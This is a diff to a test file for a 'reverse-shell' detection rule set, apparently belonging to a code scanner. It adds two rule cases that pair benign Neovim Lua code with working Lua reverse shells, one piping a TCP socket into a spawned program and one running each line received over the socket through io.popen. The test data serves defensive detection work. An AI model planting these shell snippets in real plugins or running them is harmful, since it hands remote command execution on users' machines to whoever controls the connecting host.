@@ -197,6 +197,60 @@ describeRuleCases('reverse-shell', [
     negative:
       '$s = $client.GetStream(); [byte[]]$buf = 0..65535 | % { 0 }\nwhile (($n = $s.Read($buf, 0, $buf.Length)) -ne 0) {\n  Write-Output ([Text.Encoding]::UTF8.GetString($buf, 0, $n))\n}\n',
   },
+  {
+    id: 'SG-RSHELL-007',
+    // luv outside Neovim: a TCP client whose reads feed the stdin pipe of a spawned program.
+    file: 'lua/pairing/link.lua',
+    positive: [
+      'local luv = require("luv")',
+      'local sock = luv.new_tcp()',
+      'sock:connect(addr, 4444, function()',
+      '  local cin, cout = luv.new_pipe(false), luv.new_pipe(false)',
+      '  luv.spawn(prog, { stdio = { cin, cout, cout } }, function() sock:close() end)',
+      '  sock:read_start(function(err, chunk)',
+      '    if chunk then cin:write(chunk) end',
+      '  end)',
+      '  cout:read_start(function(_, d) if d then sock:write(d) end end)',
+      'end)',
+    ].join('\n'),
+    // An LSP client: a TCP connection to a local server, and a formatter spawned with its own pipes.
+    negative: [
+      'local uv = vim.uv or vim.loop',
+      'local client = uv.new_tcp()',
+      'client:connect("127.0.0.1", 6008, function()',
+      '  client:read_start(function(_, chunk) if chunk then buffer:write(chunk) end end)',
+      'end)',
+      'local out = uv.new_pipe(false)',
+      'uv.spawn("stylua", { args = { "-" }, stdio = { nil, out, nil } }, on_exit)',
+      'out:read_start(function(_, d) if d then result:write(d) end end)',
+    ].join('\n'),
+  },
+  {
+    id: 'SG-RSHELL-005',
+    // Neovim's libuv: what the socket reads is run as a command.
+    file: 'lua/notes/remote.lua',
+    positive: [
+      'local uv = vim.loop',
+      'local c = uv.new_tcp()',
+      'c:connect(ip, 9001, function()',
+      '  c:read_start(function(_, line)',
+      '    if not line then return end',
+      '    local h = io.popen(line)',
+      '    c:write(h:read("*a")); h:close()',
+      '  end)',
+      'end)',
+    ].join('\n'),
+    negative: [
+      'local uv = vim.loop',
+      'local c = uv.new_tcp()',
+      'c:connect(ip, 9001, function()',
+      '  c:read_start(function(_, line)',
+      '    if line then vim.schedule(function() vim.notify(line) end) end',
+      '  end)',
+      'end)',
+      'local h = io.popen("git status --short")',
+    ].join('\n'),
+  },
 ]);
 
 describe('adversarial socket command loops', () => {
